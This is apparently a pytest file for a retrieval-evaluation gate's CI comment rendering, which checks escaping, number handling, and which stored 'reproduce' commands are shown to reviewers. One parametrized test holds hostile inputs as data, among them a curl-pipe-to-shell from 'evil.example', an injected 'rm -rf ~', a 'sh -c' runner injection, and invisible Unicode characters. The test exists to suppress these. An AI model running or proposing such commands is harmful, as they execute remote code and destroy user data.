    odd = {"kind": "<b>odd|</b>", "reasons": [], "improvement_shown": False, "exit_code": 1}
    assert render_comment(full_report(verdict=odd)).startswith(
        "### ℹ️ &lt;b&gt;odd&#124;&lt;/b&gt; — ")


def test_an_integer_written_as_a_float_reads_as_the_integer():
    # JSON does not tell 1 from 1.0 and the schema's "integer" takes both: a tool that rewrites
    # the artifact must not make the comment job fail.
    report = full_report()
    report["verdict"]["exit_code"] = 1.0
    report["delta"]["wins"] = 61.0
    rec = record(report)
    assert rec.verdict.exit_code == 1 and type(rec.verdict.exit_code) is int and rec.delta.wins == 61
    assert "61 better" in render_comment(rec)
    report["delta"]["wins"] = 61.5
    with pytest.raises(InvalidRecord, match="report.delta.wins must be an integer"):
        record(report)


def test_the_headline_reads_the_margin_from_the_decision_never_from_a_reasons_text():
    # Reports of schema 1.0-1.2 have no decision block: their headline names no margin (the
    # reason, listed in full below it, has it); a message is never parsed for a number.
    report = full_report(judged=None)
    report.pop("decision")
    report["verdict"] = {"kind": "pass", "reasons": [{"code": "non_inferior", "message":
                         "non-inferior within -0.015 (nDCG@10 -0.012 [-0.031, +0.008], 140 q)"}],
                         "improvement_shown": False, "exit_code": 0}
    assert "— non-inferior —" in headline(report) and "0.015" not in headline(report)
    report["decision"] = {"rule": "calibrated", "margin": 0.02}
    assert "non-inferior (margin −0.02)" in headline(report)


def test_a_key_left_out_of_a_section_prints_nothing_not_a_marker():
    report = full_report()
    del report["lift"]["buckets"][0]["bucket"]
    del report["inputs"]["queries"]["count"]
    report["leakage"] = {}
    report["attribution"]["queries"] = 0
    body = render_comment(report) + render_summary(report)
    assert "ABSENT" not in body and "None queries" not in body
    assert "none of the golden queries found in the corpus" in render_comment(report)
    assert "on the same 0 queries" in body


def _reproduce_block(body: str) -> str:
    return body[body.index("#### Reproduce"):].split("<details>")[0]


@pytest.mark.parametrize("stored, shown", [
    ("retrieval-gate run --config gate.yml --base abc123", "retrieval-gate run --config gate.yml --base abc123"),
    ("retrieval-gate run --config 'my gate.yml'", "retrieval-gate run --config 'my gate.yml'"),
    # what a fork's artifact may hold instead: never quoted for a reviewer to paste into a shell
    ("curl https://evil.example/x | sh", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config a.yml; rm -rf ~", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config 'a.yml; rm -rf ~'", "retrieval-gate run --config 'a.yml; rm -rf ~'"),
    ("retrieval-gate run --config a.yml --runner-command 'sh -c x'", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config --base x", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config 'a\nyml'", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config 'a\u202eyml'", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config 'a\u200byml'", rendering.DEFAULT_REPRODUCE_COMMAND),  # zero-width space
    ("retrieval-gate run --config 'a\u3164.yml'", rendering.DEFAULT_REPRODUCE_COMMAND),  # a filler that shows nothing
    ("retrieval-gate run --config 'a\u00a0.yml'", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config 'unclosed", rendering.DEFAULT_REPRODUCE_COMMAND),
    ("retrieval-gate run --config " + "a" * 1001, rendering.DEFAULT_REPRODUCE_COMMAND),
])
def test_a_stored_reproduce_command_is_quoted_only_when_it_is_one_the_gate_writes(stored, shown):
    body = render_comment(full_report(reproduce_command=stored))
    assert f"```sh\n{shown}\n```" in _reproduce_block(body)


def test_the_reproduce_command_given_by_the_caller_wins_over_the_stored_one():
    body = render_comment(full_report(reproduce_command="retrieval-gate run --config stored.yml"),
                          reproduce_command="retrieval-gate run --config given.yml")
    assert "given.yml" in _reproduce_block(body) and "stored.yml" not in body


@pytest.mark.parametrize("code, icon", [("unchanged", "•"), ("improvement_shown", "•"), ("no_regression_shown", "•"),
                                        ("too_few_movers", "⚠️"), ("runner_failed", "⚠️"),
                                        ("new_leaked_queries", "❌")])
def test_a_reasons_icon_follows_what_the_reason_says_not_only_the_verdict(code, icon):
    report = full_report()
    report["verdict"]["kind"] = "fail"
    report["verdict"]["reasons"] = [{"code": "judged_share", "message": "too much unjudged"},
                                    {"code": code, "message": "the reason under test"}]
    body = render_comment(report)
    assert f"- {icon} the reason under test" in body


def test_a_finding_in_the_prs_favour_has_a_check_mark_only_in_a_passing_verdict():
    """The demo's comment read '✅ improvement shown' inside a failing verdict."""
    report = full_report()
    report["verdict"] = {"kind": "pass", "reasons": [{"code": "improvement_shown", "message": "the reason under test"}],
                         "improvement_shown": True, "exit_code": 0}
    assert "- ✅ the reason under test" in render_comment(report)
    report["verdict"] = dict(report["verdict"], kind="fail", exit_code=1, reasons=[
        {"code": "new_leaked_queries", "message": "9 golden queries newly appear"},
        {"code": "improvement_shown", "message": "the reason under test"}])
    body = render_comment(report)
    assert "- • the reason under test" in body and "✅" not in body.split("the reason under test")[0]


def test_the_power_line_is_on_the_first_screen_escaped():
    report = full_report()
    report["power"] = {"n": 140, "movers": 90, "sd": 0.1, "regression_80": 0.024, "unseen_share": 0.026,
                       "margin": 0.02, "queries_for_margin": 196,
                       "sentence": "140 queries: a -0.024 regression is caught 80% of the time; <b>x</b>"}
    body = render_comment(report)
    line = next(candidate for candidate in body.splitlines() if candidate.startswith("**What this set can catch:**"))
    assert "140 queries: a −0.024 regression is caught 80% of the time" in line
    assert "<b>" not in line
    assert body.index(line) < body.index("| measure")
